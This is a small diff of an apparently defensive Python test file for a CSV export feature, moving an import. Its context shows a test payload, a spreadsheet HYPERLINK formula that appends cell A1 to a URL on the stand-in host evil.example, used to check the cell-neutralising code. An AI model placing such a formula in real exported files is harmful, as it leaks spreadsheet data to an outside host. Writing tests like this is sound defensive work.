@@ -18,10 +18,9 @@ from typing import Any
 
 import pytest
 from hypothesis import given, settings, strategies as st
+from security.ektp_support import DESA_A, make_visit, sign_in, text
 
 from ektp_admin.views.csv_export import csv_line, neutralise_cell
-
-from security.ektp_support import DESA_A, make_visit, sign_in, text
 
 SEPARATORS = {"comma": ",", "semicolon": ";", "tab": "\t", "CR": "\r", "LF": "\n", "CRLF": "\r\n"}
 PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
